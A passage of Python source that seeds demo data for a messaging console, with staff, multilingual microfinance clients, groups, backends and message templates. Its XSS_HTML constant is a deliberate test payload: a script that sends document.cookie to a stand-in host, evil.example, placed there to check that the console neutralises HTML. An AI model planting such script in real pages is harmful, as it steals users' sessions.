"""Demo data (`commlog demo`): staff logins, clients, savings groups, backends and messages over
the last 30 days in every state, so that the console shows everything it can do.

Every message is written as the outbox and the worker would have written it: its Attempt rows
agree with `attempts`, its Events tell its state history, its `state_reason` uses the worker's
words. Running it again adds messages and reuses the people and backends it made (by email and
name). Rows come from a seeded random.Random and go in with executemany (execute_values on
PostgreSQL), a chunk of messages per transaction, written by a thread while the next chunk is
made; a big load into an empty log builds its indexes (and the search index) once at the end.
A million messages take minutes.
"""

import json
import os
import queue
import random
import secrets
import threading
import time
import unicodedata
from array import array
from collections import Counter
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from html import escape
from itertools import accumulate
from operator import itemgetter

import phonenumbers
from psycopg2.extras import execute_values

from shared.backends import add_backend
from shared.channels import CONFIG, INVALID_RECIPIENT, PERMANENT, SENT, DeliveryResult
from shared.channels.email import reply_meaning
from shared.channels.sms import first_poll_after
from shared.config import load_config
from shared.db import db, insert_rows, is_sqlite
from shared.html_text import html_text
from shared.models import (
    Attempt,
    Backend,
    Client,
    Event,
    Group,
    GroupMember,
    HealthCheck,
    Incident,
    Message,
    User,
    create_schema,
    now,
)
from shared.recipients import recipient_problem
from shared.retry import next_retry_at, policy_for, retry_delay
from shared.states import HELD_REASON
from shared.users import create_user

DAYS = 30
CHUNK = 1000  # messages per transaction (with their attempts and events)
# messages that are still moving (queued, sending, backing off) were made in the last minutes;
# everything else ended before this
RECENT = timedelta(minutes=3)
# above this many messages, skip the delivery-check events (a million messages stay quick)
FULL_HISTORY_UP_TO = 100_000
POOL_TEXTS = 40  # above that, texts per (channel, kind, audience, day), then reused
# from this many messages on, the search index is rebuilt once at the end (SQLite), several
# times faster than its trigger indexing each row; into an empty log, the other indexes too
# (and PostgreSQL's trigram index)
BULK = 50_000
UID_BLOCK = 4096  # message uids made from one os.urandom() call
PAGE = 1000  # rows per INSERT statement on PostgreSQL
SEARCH_TRIGGER = "message_fts_insert"  # shared/search.py

# the words the claim, the worker and the delivery checks write (shared/states.py claim(),
# worker/delivery.py, worker/recovery.py, worker/delivery_status.py), so the demo reads the same
CLAIMED = "a worker is sending it"
DUE = "its time has come"
ACCEPTED = "Accepted by {name}."
HELD_BY_TRY = (
    "Held: {name} refused its own settings ({response}). "
    "An admin must fix and test the backend; no retries are used up."
)
NOT_USABLE = "The recipient is not usable: {response}"
REFUSED = "Refused for good: {response}"
GAVE_UP = "Gave up after {tries} tries. Last error: {response}"
RETRY = "Try {tries} failed ({response}); retry {tries} of {of} at {at:%H:%M:%S} UTC"
UNKNOWN = (
    "The worker sending it stopped before it could record the result; it is sent again "
    "with the same Message-ID, so the receiver can drop a duplicate."
)
CANCELLED_BY = "Cancelled by {name}"
LEASE = timedelta(minutes=5)
LATENCY = {"email": (0.03, 0.25), "sms": (0.15, 0.9), "webhook": (0.08, 1.2)}  # seconds a try takes
POLLS = 10
POLL_BACKOFF = 1.5
CONFIRMED = "The provider confirmed delivery."
NOT_CONFIRMED = "The provider reports the message as {status}; delivery is not confirmed."

ORG = "Riverstone Microfinance"
ORG_SHORT = "Riverstone"

# --- the staff -----------------------------------------------------------------------------

ADMIN_EMAIL = "admin@demo.example"
STAFF = [
    # email, name, role, phone
    (ADMIN_EMAIL, "Ada Admin", "admin", "+447911123456"),
    ("tomas.ferreira@demo.example", "Tomás Ferreira", "support", "+5511987654321"),
    ("amara.nwosu@demo.example", "Amara Nwosu", "support", "+2348031234567"),
    ("lena.kowalski@demo.example", "Lena Kowalski", "support", None),
    ("wanjiku.mwangi@demo.example", "Wanjiku Mwangi", "support", "+254712345678"),
]

# --- the clients: (country, language, currency, phone pattern, share of 200, names) ----------
# a phone pattern's x is any digit, [..] one of the characters in it; only numbers that
# phonenumbers calls valid are kept

CULTURES = [
    ("KE", "sw", "KES", "+2547[12]xxxxxxx", 30,
     ["Wanjiru", "Otieno", "Achieng", "Njeri", "Kiprono", "Mwende", "Omondi", "Wambui", "Chebet",
      "Kipchumba", "Nyokabi", "Barasa"],
     ["Kamau", "Odhiambo", "Atieno", "Mwangi", "Njoroge", "Kiplagat", "Wafula", "Onyango",
      "Mutua", "Cheruiyot", "Waweru", "Kariuki"]),
    ("NG", "en", "NGN", "+23480[36]xxxxxxx", 22,
     ["Ngozi", "Chinedu", "Adebayo", "Funmilayo", "Oluwaseun", "Chiamaka", "Emeka", "Yetunde",
      "Ifeanyi", "Aisha", "Babajide", "Nneka"],
     ["Okafor", "Eze", "Ogunleye", "Adeyemi", "Nwosu", "Okonkwo", "Balogun", "Obi", "Adewale",
      "Bello", "Olawale", "Ibekwe"]),
    ("UG", "en", "UGX", "+25677xxxxxxx", 14,
     ["Nakato", "Babirye", "Mukasa", "Okello", "Akello", "Tumusiime", "Kato", "Namutebi"],
     ["Namubiru", "Ssekandi", "Mugisha", "Kyomuhendo", "Byaruhanga", "Nsubuga", "Atim"]),
    ("TZ", "sw", "TZS", "+25575xxxxxxx", 12,
     ["Neema", "Baraka", "Rehema", "Juma", "Amani", "Zawadi", "Hamisi", "Upendo"],
     ["Mollel", "Mushi", "Massawe", "Kimaro", "Lyimo", "Swai", "Shirima"]),
    ("GH", "en", "GHS", "+23324xxxxxxx", 12,
     ["Kwame", "Akosua", "Kofi", "Ama", "Yaw", "Abena", "Kwabena", "Efua"],
     ["Mensah", "Boateng", "Owusu", "Asante", "Osei", "Agyeman", "Appiah", "Darko"]),
    ("IN", "en", "INR", "+919[89]xxxxxxxx", 14,
     ["Priya", "Arjun", "Ananya", "Rohan", "Kavya", "Vikram", "Lakshmi", "Sanjay"],
     ["Sharma", "Patel", "Iyer", "Reddy", "Nair", "Gupta", "Menon", "Das"]),
    ("PH", "en", "PHP", "+63917xxxxxxx", 12,
     ["Maria Cristina", "Jose Miguel", "Angelica", "Mark Anthony", "Rowena", "Jerome", "Liza"],
     ["Santos", "Reyes", "Cruz", "Bautista", "Dela Cruz", "Villanueva", "Mendoza"]),
    ("MX", "es", "MXN", "+5255xxxxxxxx", 12,
     ["Guadalupe", "Alejandro", "Ximena", "Juan Carlos", "Fernanda", "Jesús", "Mariana"],
     ["Hernández", "García", "Ramírez", "Flores", "Morales", "Ortiz", "Vázquez", "Castañeda"]),
    ("ES", "es", "EUR", "+346xxxxxxxx", 10,
     ["José", "María", "Lucía", "Javier", "Carmen", "Álvaro", "Inés", "Sergio"],
     ["Álvarez", "Fernández", "Gómez", "Martínez", "Rodríguez", "Núñez", "Ibáñez", "Muñoz"]),
    ("BR", "pt", "BRL", "+55119xxxxxxxx", 10,
     ["João", "Conceição", "Luíza", "Thiago", "Antônia", "Caio", "Letícia", "Sebastião"],
     ["Silva", "Souza", "Araújo", "Gonçalves", "Magalhães", "Assunção", "Brandão"]),
    ("FR", "fr", "EUR", "+336xxxxxxxx", 8,
     ["Élodie", "François", "Amélie", "Théo", "Chloé", "Léa", "Jérôme", "Anaïs"],
     ["Dubois", "Lefèvre", "Moreau", "Girard", "Rousseau", "Bérenger", "Lemaître", "Faure"]),
    ("DE", "de", "EUR", "+4915[12]xxxxxxxx", 8,
     ["Zoë", "Jürgen", "Käthe", "Lukas", "Anna-Lena", "Björn", "Sören", "Günther"],
     ["Müller", "Schröder", "Weiß", "Schäfer", "Köhler", "Groß", "Krüger", "Böhm"]),
    ("GB", "en", "GBP", "+447911[1]xxxxx", 8,
     ["Oliver", "Siobhán", "Aoife", "Rhys", "Eleanor", "Callum", "Niamh", "Dafydd"],
     ["O'Brien", "Evans", "Hughes", "MacLeod", "Thompson", "Davies", "Gallagher"]),
    ("VN", "en", "VND", "+849[01]xxxxxxx", 8,
     ["Nguyễn Thị", "Trần Văn", "Lê Thị", "Phạm Quốc", "Hoàng Thu", "Võ Minh", "Đặng Thị"],
     ["Lan", "Minh", "Hồng", "Bảo", "Trang", "Tuấn", "Mai", "Hùng"]),
    ("PL", "en", "PLN", "+485[0137]xxxxxxx", 6,
     ["Łukasz", "Zofia", "Małgorzata", "Krzysztof", "Agnieszka", "Paweł"],
     ["Nowak", "Kowalczyk", "Wójcik", "Mazur", "Krawczyk", "Zając", "Wróbel"]),
    ("TR", "en", "TRY", "+9053[2-5]xxxxxxx", 8,
     ["Ayşe", "Mehmet", "Zeynep", "Emre", "Elif", "Burak", "Gülşen", "Çağan"],
     ["Yılmaz", "Öztürk", "Kaya", "Demir", "Şahin", "Çelik", "Aydın", "Güneş"]),
    ("EG", "en", "EGP", "+2010xxxxxxxx", 6,
     ["Youssef", "Fatma", "Omar", "Mariam", "Karim", "Nour"],
     ["El-Sayed", "Abdel-Rahman", "Mostafa", "Farouk", "Ibrahim", "Hassan"]),
]  # fmt: skip
# the brief's own examples come first, so they are always there
FIRST_CLIENTS = [("ES", "José Álvarez"), ("DE", "Zoë Müller"), ("NG", "Ngozi Okafor")]
EMAIL_DOMAINS = ["example.com", "example.org", "example.net", "mail.example", "inbox.example"]

# amounts per currency: (smallest, largest) of a typical repayment or deposit
AMOUNTS = {
    "KES": (500, 50_000), "NGN": (5_000, 400_000), "UGX": (20_000, 2_000_000),
    "TZS": (10_000, 1_000_000), "GHS": (50, 5_000), "INR": (500, 50_000),
    "PHP": (500, 40_000), "MXN": (200, 20_000), "EUR": (20, 2_000), "BRL": (50, 5_000),
    "GBP": (20, 1_500), "VND": (200_000, 20_000_000), "PLN": (50, 6_000),
    "TRY": (300, 30_000), "EGP": (500, 50_000),
}  # fmt: skip

GROUPS = [
    # name, country, meeting place
    ("Kisumu Women's Savings Group", "KE", "the Kondele community hall"),
    ("Nakuru Jua Kali Welders Chama", "KE", "the Nakuru branch"),
    ("Eldoret Dairy Farmers Group", "KE", "Kapsoya primary school"),
    ("Mombasa Road Traders Chama", "KE", "the Mlolongo market office"),
    ("Lagos Island Market Women Cooperative", "NG", "Balogun market, shop 14"),
    ("Ibadan Cassava Growers Esusu", "NG", "the Bodija branch"),
    ("Kampala Boda Boda Savings Club", "UG", "the Wandegeya stage"),
    ("Jinja Fish Traders Group", "UG", "Masese landing site"),
    ("Arusha Tailors Savings Circle", "TZ", "the Kaloleni church hall"),
    ("Mwanza Fishmongers VICOBA", "TZ", "Mwaloni market"),
    ("Kumasi Kente Weavers Susu", "GH", "Bonwire weaving centre"),
    ("Accra Makola Traders Susu", "GH", "the Makola branch"),
    ("Pune Self-Help Group Sakhi", "IN", "the Hadapsar community centre"),
    ("Cebu Fisherfolk Paluwagan", "PH", "the Mactan barangay hall"),
    ("Oaxaca Artisans Tanda", "MX", "the Tlacolula market"),
    ("São Paulo Costureiras Fund", "BR", "the Brás branch"),
    ("Madrid Lavapiés Vecinos Fund", "ES", "the Lavapiés branch"),
    ("Berlin Neukölln Nachbarschaftskasse", "DE", "the Neukölln branch"),
    ("Hanoi Street Food Vendors Group", "VN", "the Đống Đa branch"),
    ("Izmir Kemeraltı Artisans Group", "TR", "the Konak branch"),
]

# --- backends --------------------------------------------------------------------------------

OFFICE_MAIL = "Office mail"
BULK_SMS = "Bulk SMS"
PARTNER_WEBHOOKS = "Partner webhooks"
OLD_RELAY = "Old relay"
AUTH_REFUSED = (535, "5.7.8 Error: authentication failed: authentication failure")
PARTNER_URLS = [
    "https://crm.partner-one.example/webhooks/commlog",
    "https://erp.kisumu-coop.example/api/notifications",
    "https://hooks.insurer.example/v2/events",
    "https://analytics.demo.example/ingest/commlog",
]

# --- what providers answer ---------------------------------------------------------------------

# (reply code, reply text, exception type): {rcpt} is the recipient
EMAIL_BOUNCES = [
    (550, "5.1.1 <{rcpt}>: Recipient address rejected: User unknown in virtual mailbox table",
     "SMTPRecipientsRefused"),
    (550, "5.1.1 The email account that you tried to reach does not exist. Please try "
     "double-checking the recipient's email address for typos or unnecessary spaces.",
     "SMTPRecipientsRefused"),
]  # fmt: skip
EMAIL_REFUSALS = EMAIL_BOUNCES + [
    (552, "5.2.2 <{rcpt}>: Mailbox full", "SMTPRecipientsRefused"),
    (554, "5.7.1 Message rejected: it looks like spam to our filters", "SMTPDataError"),
]
# transient failures on the recipient's side only: the gateway's own (no answer, 421, an SMS
# provider's 5xx) would have made the backend FAILING with an incident (worker/delivery.py)
EMAIL_TRANSIENT = [
    (451, "4.7.1 Greylisted, please try again in 180 seconds", "SMTPRecipientsRefused"),
    (450, "4.2.1 Mailbox temporarily unavailable: too many connections", "SMTPRecipientsRefused"),
    (452, "4.2.2 Mailbox over quota, try again later", "SMTPRecipientsRefused"),
]
# (status, reason, body)
SMS_REFUSALS = [
    (400, "Bad Request",
     '{"error": {"code": "invalid_destination", "message": "The destination is not a mobile '
     'number"}}'),
    (422, "Unprocessable Entity",
     '{"error": "The recipient has opted out of SMS from this sender"}'),
]  # fmt: skip
SMS_TRANSIENT = [
    (429, "Too Many Requests", '{"error": "rate limit exceeded, retry after 2 seconds"}'),
    (429, "Too Many Requests", '{"error": "too many messages to this number, slow down"}'),
]
SMS_REPORTS = [
    ("undelivered", "Handset switched off or out of coverage for 48 hours"),
    ("rejected", "The carrier rejected the message as spam"),
    ("expired", ""),
]
WEBHOOK_REFUSALS = [
    (404, "Not Found", '{"error": "no webhook is registered at this address"}'),
    (410, "Gone", '{"error": "this endpoint was retired on 1 March"}'),
    (400, "Bad Request", '{"error": "unknown event type"}'),
]
WEBHOOK_TRANSIENT = [
    (502, "Bad Gateway", "<html><head><title>502 Bad Gateway</title></head><body><center><h1>"
     "502 Bad Gateway</h1></center><hr><center>nginx</center></body></html>"),
    (503, "Service Unavailable", "upstream connect error or disconnect/reset before headers"),
    (504, "Gateway Timeout", ""),
]  # fmt: skip
WEBHOOK_NO_ANSWER = [
    ("ConnectionRefusedError", "The connection failed: [Errno 111] Connection refused"),
    ("TimeoutError", "No answer within 10 seconds"),
]

# --- what the messages say -------------------------------------------------------------------

MONTHS = {
    "en": "January February March April May June July August September October November December",
    "es": "enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre "
    "diciembre",
    "fr": "janvier février mars avril mai juin juillet août septembre octobre novembre décembre",
    "sw": "Januari Februari Machi Aprili Mei Juni Julai Agosti Septemba Oktoba Novemba Desemba",
}
MONTHS = {language: names.split() for language, names in MONTHS.items()}

# kind -> language -> (subject, email text, sms text); English is the fallback
TEMPLATES = {
    "loan.repayment_due": {
        "en": (
            "Your loan repayment of {amount} is due on {date}",
            "Dear {first},\n\nThis is a reminder that your repayment of {amount} for loan {loan} "
            "is due on {date}.\n\nYou can pay at any branch, by mobile money (paybill 522533, "
            "account {loan}) or by bank transfer. If you have already paid, please ignore this "
            "message.\n\nKind regards,\n{org}",
            "{org_short}: Dear {first}, your repayment of {amount} for loan {loan} is due on "
            "{date}. Pay via paybill 522533, account {loan}. Ignore if already paid.",
        ),
        "es": (
            "Su cuota de {amount} vence el {date}",
            "Estimado/a {first}:\n\nLe recordamos que la cuota de {amount} de su préstamo {loan} "
            "vence el {date}.\n\nPuede pagar en cualquier sucursal o por transferencia bancaria. "
            "Si ya ha pagado, ignore este mensaje.\n\nAtentamente,\n{org}",
            "{org_short}: Hola {first}, su cuota de {amount} del préstamo {loan} vence el {date}. "
            "Si ya pagó, ignore este mensaje.",
        ),
        "fr": (
            "Votre échéance de {amount} est due le {date}",
            "Bonjour {first},\n\nNous vous rappelons que l'échéance de {amount} de votre prêt "
            "{loan} est due le {date}.\n\nVous pouvez payer dans toute agence ou par virement. Si "
            "vous avez déjà payé, merci de ne pas tenir compte de ce message.\n\nCordialement,\n"
            "{org}",
            "{org_short} : Bonjour {first}, votre échéance de {amount} (prêt {loan}) est due le "
            "{date}. Ignorez ce message si vous avez déjà payé.",
        ),
        "sw": (
            "Malipo yako ya mkopo ya {amount} yanadaiwa tarehe {date}",
            "Mpendwa {first},\n\nTunakukumbusha kwamba malipo ya {amount} ya mkopo {loan} "
            "yanadaiwa tarehe {date}.\n\nUnaweza kulipa kupitia M-Pesa paybill 522533 (akaunti "
            "{loan}) au katika tawi lolote. Kama umeshalipa, tafadhali puuza ujumbe huu.\n\n"
            "Asante,\n{org}",
            "{org_short}: {first}, malipo ya {amount} ya mkopo {loan} yanadaiwa {date}. Lipa "
            "kupitia paybill 522533, akaunti {loan}.",
        ),
    },
    "loan.repayment_received": {
        "en": (
            "We received your repayment of {amount}",
            "Dear {first},\n\nThank you: we received your repayment of {amount} for loan {loan} "
            "on {today}. Your outstanding balance is now {balance}.\n\nKind regards,\n{org}",
            "{org_short}: Thank you {first}, we received {amount} for loan {loan}. "
            "Outstanding balance: {balance}.",
        ),
        "es": (
            "Hemos recibido su pago de {amount}",
            "Estimado/a {first}:\n\nGracias: hemos recibido su pago de {amount} del préstamo "
            "{loan} el {today}. Su saldo pendiente es ahora de {balance}.\n\nAtentamente,\n{org}",
            "{org_short}: Gracias {first}, recibimos {amount} para el préstamo {loan}. "
            "Saldo pendiente: {balance}.",
        ),
        "sw": (
            "Tumepokea malipo yako ya {amount}",
            "Mpendwa {first},\n\nAsante: tumepokea malipo yako ya {amount} ya mkopo {loan} "
            "tarehe {today}. Salio lako sasa ni {balance}.\n\nAsante,\n{org}",
            "{org_short}: Asante {first}, tumepokea {amount} kwa mkopo {loan}. Salio: {balance}.",
        ),
    },
    "savings.deposit_received": {
        "en": (
            "Deposit of {amount} received",
            "Dear {first},\n\nA deposit of {amount} was credited to your savings account ending "
            "{last4} on {today}. Your new balance is {balance}.\n\nThank you for saving with us.\n"
            "{org}",
            "{org_short}: {amount} deposited to your account ...{last4}. New balance {balance}. "
            "Thank you for saving with us.",
        ),
        "fr": (
            "Dépôt de {amount} reçu",
            "Bonjour {first},\n\nUn dépôt de {amount} a été crédité sur votre compte d'épargne se "
            "terminant par {last4} le {today}. Votre nouveau solde est de {balance}.\n\n{org}",
            "{org_short} : {amount} déposés sur votre compte ...{last4}. Nouveau solde {balance}.",
        ),
        "sw": (
            "Amana ya {amount} imepokelewa",
            "Mpendwa {first},\n\nAmana ya {amount} imewekwa kwenye akaunti yako ya akiba "
            "inayoishia {last4} tarehe {today}. Salio lako jipya ni {balance}.\n\n{org}",
            "{org_short}: {amount} imewekwa kwenye akaunti ...{last4}. Salio jipya {balance}.",
        ),
    },
    "savings.withdrawal_made": {
        "en": (
            "Withdrawal of {amount} from your savings account",
            "Dear {first},\n\n{amount} was withdrawn from your savings account ending {last4} on "
            "{today}. Your balance is {balance}.\n\nIf you did not make this withdrawal, call us "
            "at once on our hotline.\n\n{org}",
            "{org_short}: {amount} withdrawn from account ...{last4}. Balance {balance}. Not you? "
            "Call our hotline now.",
        ),
    },
    "loan.disbursed": {
        "en": (
            "Your loan of {amount} has been disbursed",
            "Dear {first},\n\nGood news: your loan {loan} of {amount} has been sent to your "
            "account ending {last4}. Your first repayment of {installment} is due on {date}.\n\n"
            "The full repayment schedule is in your online banking.\n\nKind regards,\n{org}",
            "{org_short}: Congratulations {first}! Loan {loan} of {amount} has been sent to your "
            "account ...{last4}. First repayment {installment} due {date}.",
        ),
    },
    "loan.overdue": {
        "en": (
            "Your loan repayment is {days} days overdue",
            "Dear {first},\n\nWe have not yet received your repayment of {amount} for loan "
            "{loan}, which was due {days} days ago. Please pay as soon as possible to avoid a "
            "late fee. If you are having difficulty, talk to your loan officer: we can help.\n\n"
            "{org}",
            "{org_short}: {first}, your repayment of {amount} for loan {loan} is {days} days "
            "overdue. Please pay or call your loan officer.",
        ),
    },
    "account.statement_ready": {
        "en": (
            "Your statement for {month} is ready",
            "Dear {first},\n\nYour account statement for {month} is ready in your online "
            "banking. Opening balance {opening}, closing balance {balance}.\n\nKind regards,\n"
            "{org}",
            "",
        ),
    },
    "account.password_reset": {
        "en": (
            "Reset your online banking password",
            "Hello {first},\n\nSomeone (hopefully you) asked to reset your password. Use this "
            "link within 30 minutes:\n\nhttps://online.riverstone.example/reset/{token}\n\nIf "
            "you did not ask for this, you can ignore this email.\n\n{org}",
            "",
        ),
    },
    "account.verification_code": {
        "en": (
            "Verification code",
            "",
            "{org_short}: your verification code is {code}. It expires in 10 minutes. We will "
            "never ask you for this code.",
        ),
    },
    "group.meeting_reminder": {
        "en": (
            "Reminder: {group} meets on {date}",
            "Dear members of {group},\n\nYour next group meeting is on {date} at {hour} at "
            "{place}. Please bring your passbooks and this week's contribution.\n\n{org}",
            "{org_short}: {group} meets {date} {hour} at {place}. Bring passbooks and "
            "contributions.",
        ),
    },
    "group.contribution_summary": {
        "en": (
            "{group}: contributions for {month}",
            "Dear treasurer,\n\n{members} members of {group} contributed {amount} in {month}. "
            "The group's savings balance is {balance}.\n\n{org}",
            "",
        ),
    },
    "system.daily_summary": {
        "en": (
            "commlog daily summary for {today}",
            "Hello {first},\n\nYesterday {sent} messages were sent and {failed} failed. Open the "
            "log to see the failures that still need attention:\n{console}/log?state=FAILED\n\n"
            "commlog",
            "",
        ),
    },
    "staff.password_reset": {
        "en": (
            "Reset your commlog password",
            "Hello {first},\n\nUse this link within 30 minutes to choose a new password:\n\n"
            "{console}/reset/{token}\n\nIf you did not ask for this, tell an admin.\n\ncommlog",
            "",
        ),
    },
}
# what a webhook's JSON says besides its event, id, time and whom it is about
WEBHOOK_DETAILS = {
    "loan.disbursed": '"loan_id": "{loan}", "amount": "{amount}"',
    "loan.repayment_received": '"loan_id": "{loan}", "amount": "{amount}"',
    "savings.deposit_received": '"account": "...{last4}", "amount": "{amount}"',
    "client.updated": '"changed": ["phone", "address"]',
    "group.meeting_scheduled": '"meeting_at": "{meeting_at}"',
}
HTML_KINDS = frozenset({"loan.disbursed", "account.statement_ready", "group.contribution_summary"})

# manual messages: (subject, email text, sms text)
MANUAL_TO_CLIENTS = [
    (
        "Documents for your loan application",
        "Dear {first},\n\nThank you for your loan application. To complete it, please bring a "
        "copy of your ID and your last three months of business records to the branch this "
        "week.\n\nBest regards,\n{staff}",
        "Hello {first}, this is {staff_first} from {org_short}. Please bring your ID and business "
        "records to the branch this week to complete your loan application.",
    ),
    (
        "Following up on our call",
        "Dear {first},\n\nThank you for your time on the phone today. As discussed, we have "
        "rescheduled your next repayment of {amount} to {date}. Nothing else changes.\n\nBest "
        "regards,\n{staff}",
        "Hello {first}, as agreed on the phone your repayment of {amount} is moved to {date}. "
        "{staff_first}, {org_short}",
    ),
    (
        "Your appointment on {date}",
        "Dear {first},\n\nThis confirms your appointment with your loan officer on {date} at "
        "{hour}. If this time does not suit you, reply to this email.\n\nBest regards,\n{staff}",
        "Hello {first}, your appointment with your loan officer is on {date} at {hour}. Reply "
        "to change it. {staff_first}, {org_short}",
    ),
]
MANUAL_TO_GROUPS = [
    (
        "Meeting moved to {date}",
        "Dear members of {group},\n\nThis week's meeting is moved to {date} at {hour}, same "
        "place ({place}). Sorry for the change.\n\n{staff}",
        "{group}: this week's meeting is moved to {date} {hour} at {place}. {staff_first}",
    ),
    (
        "Training on record keeping",
        "Dear members of {group},\n\nWe are running a free training on simple record keeping "
        "for your businesses after your next meeting. It takes about an hour.\n\n{staff}",
        "{group}: free training on record keeping after your next meeting. {staff_first}",
    ),
]
XSS_HTML = (
    "<p>Dear {first},</p><p>Here are our savings tips for the rainy season: put a little aside "
    "every market day, and keep it in your group, not under the mattress.</p>"
    '<img src="x" onerror="alert(\'onerror ran: the console did not neutralise this HTML\')">'
    "<script>alert('script ran: the console did not neutralise this HTML');"
    "document.location='https://evil.example/steal?c='+document.cookie</script>"
    "<p>Best regards,<br>{staff}</p>"
)

# which kinds each channel carries: (kind, weight, whom it is for)
EMAIL_KINDS = [
    ("loan.repayment_due", 20, "client"), ("loan.repayment_received", 14, "client"),
    ("savings.deposit_received", 15, "client"), ("savings.withdrawal_made", 5, "client"),
    ("loan.disbursed", 7, "client"), ("loan.overdue", 5, "client"),
    ("account.statement_ready", 6, "client"), ("account.password_reset", 4, "client"),
    ("group.meeting_reminder", 6, "group"), ("group.contribution_summary", 3, "group"),
    ("system.daily_summary", 1.5, "user"), ("staff.password_reset", 0.5, "user"),
    ("manual", 8, "client"), ("manual", 2, "group"),
]  # fmt: skip
SMS_KINDS = [
    ("loan.repayment_due", 24, "client"), ("loan.repayment_received", 14, "client"),
    ("savings.deposit_received", 18, "client"), ("savings.withdrawal_made", 6, "client"),
    ("loan.disbursed", 6, "client"), ("loan.overdue", 6, "client"),
    ("account.verification_code", 10, "client"), ("group.meeting_reminder", 8, "group"),
    ("manual", 7, "client"), ("manual", 1, "group"),
]  # fmt: skip
WEBHOOK_KINDS = [
    ("loan.disbursed", 25, "client"), ("loan.repayment_received", 30, "client"),
    ("savings.deposit_received", 30, "client"), ("client.updated", 10, "client"),
    ("group.meeting_scheduled", 5, "group"),
]  # fmt: skip
SCHEDULED_KINDS = [("loan.repayment_due", 3, "client"), ("group.meeting_reminder", 2, "group")]

# --- states -----------------------------------------------------------------------------------

# what a planned message becomes; WAITING comes two ways (scheduled, or backing off)
(SENT_, DELIVERED_, FAILED_, NOT_SENT_, CANCELLED_, SCHEDULED_, RETRYING_, QUEUED_, SENDING_,
 HELD_) = range(10)  # fmt: skip
RECENT_CODES = frozenset({RETRYING_, QUEUED_, SENDING_})
CHANNELS = ("email", "sms", "webhook")
EMAIL, SMS, WEBHOOK = range(3)
# the finished states' shares, and the channel shares within each
FINISHED_MIX = [(SENT_, 0.60), (DELIVERED_, 0.22), (FAILED_, 0.07), (NOT_SENT_, 0.03),
                (CANCELLED_, 0.015)]  # fmt: skip
CHANNEL_MIX = {
    SENT_: (0.74, 0.12, 0.14),
    DELIVERED_: (0, 1, 0),
    FAILED_: (0.45, 0.35, 0.20),
    NOT_SENT_: (0.30, 0.60, 0.10),
    CANCELLED_: (0.55, 0.45, 0),
    SCHEDULED_: (0.5, 0.5, 0),
    RETRYING_: (0.4, 0.3, 0.3),
    QUEUED_: (0.6, 0.3, 0.1),
    SENDING_: (0.6, 0.3, 0.1),
    HELD_: (1, 0, 0),
}
# hour of day (UTC) -> how busy: reminders go out early, staff work in the day
HOUR_WEIGHTS = [1, 1, 1, 2, 3, 6, 12, 16, 15, 13, 12, 11, 10, 11, 11, 10, 9, 8, 6, 5, 4, 3, 2, 1]
WEEKDAY_WEIGHTS = [1, 1, 1, 1, 1, 0.5, 0.3]

# resend chains: what each link ends as; the first of each kind is always made
CHAIN_KINDS = {
    "again": (FAILED_, FAILED_),  # resent unchanged, bounced again: still to do
    "third": (FAILED_, FAILED_, SENT_),  # the third try, with the address fixed, resolves both
    "fixed_email": (FAILED_, SENT_),  # the address was fixed in the resend
    "fixed_sms": (NOT_SENT_, DELIVERED_),  # the number was written properly in the resend
    "webhook": (FAILED_, SENT_),  # the receiver was down; resent once it was back
    "copy": (SENT_, SENT_),  # the client asked for it again
}
CHAIN_WEIGHTS = {"again": 1, "third": 1, "fixed_email": 3, "fixed_sms": 2, "webhook": 1.5,
                 "copy": 1.5}  # fmt: skip
CHAIN_CHANNEL = {"again": EMAIL, "third": EMAIL, "fixed_email": EMAIL, "fixed_sms": SMS,
                 "webhook": WEBHOOK, "copy": EMAIL}  # fmt: skip


# --- people ---------------------------------------------------------------------------------


GERMAN_SPELLING = [("ä", "ae"), ("ö", "oe"), ("ü", "ue"), ("Ä", "Ae"), ("Ö", "Oe"), ("Ü", "Ue")]
# letters that Unicode does not decompose into an ASCII letter and an accent
ASCII_SPELLING = [("ß", "ss"), ("ł", "l"), ("Ł", "L"), ("đ", "d"), ("Đ", "D"), ("ı", "i"),
                  ("ø", "o"), ("æ", "ae"), ("œ", "oe")]  # fmt: skip


def ascii_name(text: str, german: bool = False) -> str:
    """A name as the ASCII letters an email address would use (Müller: muller, or mueller)."""
    if german:
        for umlaut, spelled in GERMAN_SPELLING:
            text = text.replace(umlaut, spelled)
    for letter, spelled in ASCII_SPELLING:
        text = text.replace(letter, spelled)
    decomposed = unicodedata.normalize("NFKD", text)
    return "".join(c for c in decomposed if c.isascii() and (c.isalnum() or c in " -")).lower()


def phone_number(rng: random.Random, pattern: str) -> str:
    """A number that fits the pattern and that phonenumbers accepts as valid."""
    while True:
        digits, i = [], 0
        while i < len(pattern):
            c = pattern[i]
            if c == "x":
                digits.append(str(rng.randrange(10)))
            elif c == "[":
                end = pattern.index("]", i)
                choices = pattern[i + 1 : end]
                if "-" in choices:
                    low, high = choices.split("-")
                    choices = "".join(str(d) for d in range(int(low), int(high) + 1))
                digits.append(rng.choice(choices))
                i = end
            else:
                digits.append(c)
            i += 1
        number = "".join(digits)
        if phonenumbers.is_valid_number(phonenumbers.parse(number)):
            return number


@dataclass
class Person:
    """A client as the demo knows it (the database row plus what its messages need)."""

    id: int
    name: str
    first: str
    email: str | None
    phone: str | None
    country: str
    language: str
    currency: str


def client_roster() -> list[dict]:
    """The 200 demo clients, the same every run (so a second run finds them by name)."""
    rng = random.Random(20240601)
    cultures = {c[0]: c for c in CULTURES}
    wanted: list[tuple[str, str]] = list(FIRST_CLIENTS)
    names = {name for _, name in wanted}
    for country, _, _, _, share, firsts, lasts in CULTURES:
        made = sum(1 for c, _ in wanted if c == country)
        while made < share:
            name = f"{rng.choice(firsts)} {rng.choice(lasts)}"
            if name not in names:
                names.add(name)
                wanted.append((country, name))
                made += 1
    rng.shuffle(wanted)
    roster, emails = [], set()
    for country, name in wanted:
        _, language, currency, pattern, _, _, _ = cultures[country]
        first = name.split(" ")[0]
        if country == "VN":  # family name first; people go by the last part
            first = name.rsplit(" ", 1)[1]
        folded = ascii_name(name, german=country == "DE").replace("'", "")
        parts = folded.replace("-", " ").split()
        given, family = parts[0], parts[-1]
        local = rng.choice(
            [f"{given}.{family}", f"{given}{family}", f"{given[0]}.{family}", f"{given}_{family}"]
        )
        if local in emails or rng.random() < 0.2:
            local += str(rng.randrange(1, 99))
        emails.add(local)
        email = f"{local}@{rng.choice(EMAIL_DOMAINS)}"
        roster.append(
            {
                "name": name,
                "first": first,
                "email": None if rng.random() < 0.07 else email,
